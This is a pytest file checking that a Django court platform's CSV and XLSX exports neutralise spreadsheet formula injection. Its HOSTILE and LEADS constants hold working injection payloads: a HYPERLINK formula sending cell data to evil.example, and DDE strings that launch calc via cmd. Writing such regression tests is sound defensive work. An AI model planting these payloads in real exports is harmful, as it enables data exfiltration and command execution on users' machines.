"""No export of the platform hands a spreadsheet a formula (issue 10, finding 11; OWASP CSV injection).

`EXPORTS` lists every CSV and XLSX the platform serves, each with a scenario that puts hostile text
(``=HYPERLINK(...)``, ``+``, ``-``, ``@``, tab- and CR-led values) into the user data it carries.
Every cell of every export must come out inert: no text cell starts with a formula character unless
it is a plain number, and no XLSX cell is a formula. Genuine negative amounts stay as they are.

`test_every_export_is_listed` keeps the list complete: a module that starts serving CSV/XLSX, a new
``.csv``/``.xlsx`` URL, or code that writes spreadsheets without `zhixing.core.spreadsheet` fails it.
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from datetime import date
from pathlib import Path
from typing import Any

import pytest
import time_machine
from django.core.cache import cache
from django.test import Client
from django.urls import URLPattern, URLResolver, get_resolver, reverse
from openpyxl import load_workbook

from tests import factories
from zhixing.analytics import queries as an_queries
from zhixing.analytics import services as an_services
from zhixing.analytics.models import Profile, Transaction
from zhixing.cases.models import Party
from zhixing.core import spreadsheet
from zhixing.courts.models import Court, Staff
from zhixing.inquiry import services as inq_services
from zhixing.inquiry.models import InquiryRequest, Partner

pytestmark = pytest.mark.django_db

SRC = Path(__file__).resolve().parents[2] / "src"
FIXTURES = Path(__file__).resolve().parents[1] / "analytics" / "fixtures"
HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"点击查看")'
LEADS = ["+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
_PLAIN = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)|[+-]")


def formula_cells(cells: list[Any]) -> list[Any]:
    """Cells a spreadsheet would evaluate (written independently of the module under test)."""
    return [
        c
        for c in cells
        if isinstance(c, str) and c[:1] in ("=", "+", "-", "@", "\t", "\r", "\n") and not _PLAIN.fullmatch(c)
    ]


def csv_cells(data: bytes) -> list[Any]:
    return [c for row in csv.reader(io.StringIO(data.decode("utf-8-sig"))) for c in row]


def xlsx_cells(data: bytes) -> list[Any]:
    wb = load_workbook(io.BytesIO(data))
    out = []
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for c in row:
                assert c.data_type != "f", (ws.title, c.coordinate, c.value)
                out.append(c.value)
    return out


def body(resp: Any) -> bytes:
    assert resp.status_code == 200, resp.status_code
    return b"".join(resp.streaming_content) if resp.streaming else resp.content


def login(people: dict[str, Any], who: str) -> Client:
    c = Client()
    c.force_login(people[who])
    return c


# -- the scenarios: each puts hostile text into the data its export carries -----------------------------
def evidence_profile(people: dict[str, Any], settings: Any, tmp_path: Path) -> Profile:
    """A profile whose evidence is every imported line, with hostile counterparties and summaries."""
    settings.DATA_DIR = tmp_path / "data"
    an_services.install_builtin_presets()
    judge = people["judge"]
    case = factories.case(people["clerk"])
    party = case.parties.get(role="debtor")
    ref = an_queries.debtor(judge, case.pk, party.pk)
    assert ref is not None
    job = an_services.create_import(
        judge,
        ref,
        kind="statement",
        file_name="cmb.csv",
        data=(FIXTURES / "cmb_sample.csv").read_bytes(),
        preset=an_queries.preset_by_code(judge, "cmb"),
    )
    assert an_services.run_import(job.pk).status == "done"
    txs = list(Transaction.objects.filter(party=party).order_by("id"))
    for tx, lead in zip(txs, [HOSTILE, *LEADS], strict=False):
        Transaction.objects.filter(pk=tx.pk).update(
            counterparty=lead, counterparty_account=lead, summary=lead
        )
    prof = an_services.compute_profile(judge, ref, start=date(2023, 1, 1), end=date(2026, 1, 1))
    finding = {
        "rule": "hostile",
        "label": HOSTILE,
        "weight": 1,
        "detail": "",
        "evidence": [t.pk for t in txs],
    }
    Profile.objects.filter(pk=prof.pk).update(findings=[finding])
    prof.refresh_from_db()
    return prof


def analytics_evidence_csv(people: dict[str, Any], settings: Any, tmp_path: Path) -> list[Any]:
    prof = evidence_profile(people, settings, tmp_path)
    cells = csv_cells(body(login(people, "judge").get(reverse("analytics:bundle", args=[prof.pk]))))
    assert "-2000.00" in cells and "-3.00" in cells  # negative amounts stay numbers
    return cells


def inquiry_log_xlsx(people: dict[str, Any], settings: Any, tmp_path: Path) -> list[Any]:
    settings.ZHIXING_INQUIRY = {"kick_on_commit": False}
    case = factories.case(people["clerk"])
    Party.objects.filter(case=case, role="debtor").update(name=HOSTILE)
    Staff.objects.filter(pk=people["judge"].pk).update(full_name=LEADS[2])
    Partner.objects.filter(code="BANK-ICBC").update(name=LEADS[0])
    inq_services.start_inquiry(Staff.objects.get(pk=people["judge"].pk), case, ["deposit"])
    InquiryRequest.objects.filter(case=case).update(last_error=LEADS[3], notice_number=LEADS[1])
    return xlsx_cells(body(login(people, "director").get(reverse("inquiry_log_export"))))


def funds_reconciliation_xlsx(people: dict[str, Any], settings: Any, tmp_path: Path) -> list[Any]:
    from zhixing.funds import services as funds

    court = people["finance"].court
    funds.set_custody_account(
        None,
        court,
        bank_name="沙箱托管银行",
        account_name=court.name,
        account_no="44001000106",
        sub_prefix="880106",
    )
    lines = [
        ("交易流水号", "交易日期", "金额"),
        (HOSTILE, "2026-03-10", "-10.00"),
        (LEADS[2], "2026-03-10", "-5.00"),
    ]
    buf = io.StringIO()
    csv.writer(buf).writerows(lines)
    imp = funds.import_statement(people["finance"], court, buf.getvalue().encode(), "s.csv")
    url = reverse("funds_reconciliation", args=[imp.pk]) + "?format=xlsx"
    cells = xlsx_cells(body(login(people, "finance").get(url)))
    assert "-10.00" in cells and "-5.00" in cells
    return cells


def credit_screening_csv(people: dict[str, Any], settings: Any, tmp_path: Path) -> Iterator[list[Any]]:
    from tests.credit.conftest import ADULT_ID, NOW, debtor, debtor_case, listing_data, make_partner
    from zhixing.credit import queries as credit_queries
    from zhixing.credit import services as credit

    with time_machine.travel(NOW, tick=False):
        credit_queries.reset_index()
        cache.clear()
        try:
            case = debtor_case(people["clerk"])
            credit.list_debtor(people["judge"], case, debtor(case), listing_data())
            Court.objects.filter(pk=case.court_id).update(name=HOSTILE)
            _, key = make_partner("railway", "国铁集团")
            resp = Client().post(
                "/api/v1/screening/batch",
                data=f"{ADULT_ID}\n",
                content_type="text/plain",
                HTTP_X_PARTNER_KEY=key,
                HTTP_ACCEPT="text/csv",
            )
            yield csv_cells(body(resp))
        finally:
            credit_queries.reset_index()
            cache.clear()


def case_list_xlsx(people: dict[str, Any], settings: Any, tmp_path: Path) -> list[Any]:
    """The generic list export (core/exports.py) through the case list, parties' names hostile."""
    case = factories.case(people["clerk"])
    Party.objects.filter(case=case, role="debtor").update(name=HOSTILE)
    Party.objects.filter(case=case, role="applicant").update(name=LEADS[0])
    url = reverse("case_list") + "?export=xlsx&export_table=cases.list"
    return xlsx_cells(body(login(people, "director").get(url)))


@dataclass(frozen=True)
class Export:
    """One export: the module that serves it, its URL name, and the scenario returning its cells."""

    module: str
    url_name: str
    scenario: Callable[..., Any]
    hostile: str  # the hostile text the scenario is sure to put into this export


EXPORTS = {
    "analytics evidence.csv": Export(
        "zhixing/analytics/views.py", "analytics:bundle", analytics_evidence_csv, HOSTILE
    ),
    "inquiry log.xlsx": Export("zhixing/inquiry/views.py", "inquiry_log_export", inquiry_log_xlsx, HOSTILE),
    "funds reconciliation.xlsx": Export(
        "zhixing/funds/views.py", "funds_reconciliation", funds_reconciliation_xlsx, HOSTILE
    ),
    "case list.xlsx (every list's export)": Export(
        "zhixing/core/exports.py", "case_list", case_list_xlsx, HOSTILE
    ),
    "credit screening (text/csv)": Export(
        "zhixing/credit/gateway/answers.py", "gateway:screening_batch", credit_screening_csv, HOSTILE
    ),
}


@pytest.mark.parametrize("name", sorted(EXPORTS))
def test_no_formula_survives_any_export(
    name: str, people: dict[str, Any], settings: Any, tmp_path: Path
) -> None:
    export = EXPORTS[name]
    got = export.scenario(people, settings, tmp_path)
    gen = got if isinstance(got, Iterator) else None
    cells = next(gen) if gen else got
    try:
        assert formula_cells(cells) == []
        assert "'" + export.hostile in cells  # the hostile text was exported, as inert text
    finally:
        if gen:
            gen.close()


# -- the list is complete --------------------------------------------------------------------------------
SERVES_SPREADSHEET = re.compile(r"[\"']text/csv|spreadsheetml\.sheet[\"']|CSV_CONTENT_TYPE|XLSX_CONTENT_TYPE")
WRITES_SPREADSHEET = re.compile(r"csv\.writer\(|csv\.DictWriter\(|\bWorkbook\(")
NOT_EXPORTS = {
    "zhixing/core/spreadsheet.py": "the one writer every export goes through",
    "zhixing/analytics/store.py": "a private temporary CSV that DuckDB reads; never leaves the server",
    "zhixing/partners/sandbox/custody_bank.py": "the simulated bank's own statement (an outside system)",
    "zhixing/partners/sandbox/custody_accounts.py": "the simulated bank's own statement (an outside system)",
    "zhixing/funds/views_distribution.py": "the blank distribution claims template (no stored data)",
    "zhixing/analytics/behaviour/writers.py": "the quality generator's synthetic files (never served)",
    "zhixing/credit/gateway/batch_input.py": "reads a batch request's content type (the CSV is answers.py's)",
    "zhixing/credit/gateway/openapi.py": "the API document's description of the screening CSV (answers.py)",
    "zhixing/analytics/columnar_layout.py": "an in-memory CSV of a statement's own cells that DuckDB reads",
    "zhixing/analytics/columnar_import.py": "the stored duplicate keys as a private temporary CSV for DuckDB",
}


def _sources() -> dict[str, str]:
    return {
        str(p.relative_to(SRC)): p.read_text(encoding="utf-8")
        for p in SRC.rglob("*.py")
        if "migrations" not in p.parts
    }


def _urls(resolver: URLResolver, prefix: str = "", ns: str = "") -> Iterator[tuple[str, str]]:
    for p in resolver.url_patterns:
        if isinstance(p, URLResolver):
            inner = f"{ns}{p.namespace}:" if p.namespace else ns
            yield from _urls(p, prefix + str(p.pattern), inner)
        elif isinstance(p, URLPattern):
            yield prefix + str(p.pattern), f"{ns}{p.name}"


def test_every_export_is_listed() -> None:
    sources = _sources()
    serving = {path for path, text in sources.items() if SERVES_SPREADSHEET.search(text)}
    assert serving - set(NOT_EXPORTS) == {e.module for e in EXPORTS.values()}
    writers = {path for path, text in sources.items() if WRITES_SPREADSHEET.search(text)}
    assert writers <= set(NOT_EXPORTS), "write spreadsheets with zhixing.core.spreadsheet"
    names = {e.url_name for e in EXPORTS.values()}
    routes = [(route, name) for route, name in _urls(get_resolver()) if re.search(r"\.(csv|xlsx)\b", route)]
    assert routes and all(name in names for _, name in routes), routes


def test_the_core_writer_neutralises_and_keeps_numbers() -> None:
    assert spreadsheet.neutralise(HOSTILE) == "'" + HOSTILE
    assert [spreadsheet.neutralise(x) for x in LEADS] == ["'" + x for x in LEADS]
    assert [spreadsheet.neutralise(x) for x in ["-12.50", "+3", "-", "1-2", "张三"]] == [
        "-12.50",
        "+3",
        "-",
        "1-2",
        "张三",
    ]
    data = spreadsheet.csv_bytes([["a", "b"], [HOSTILE, -12.5], ["\x01=1", 3]])
    assert csv_cells(data) == ["a", "b", "'" + HOSTILE, "-12.5", "\x01=1", "3"]
    book = spreadsheet.XlsxBook()
    book.sheet("s").append([HOSTILE, -12.5, "-7", "\x01=1"])
    assert xlsx_cells(book.to_bytes()) == ["'" + HOSTILE, -12.5, "-7", "'=1"]
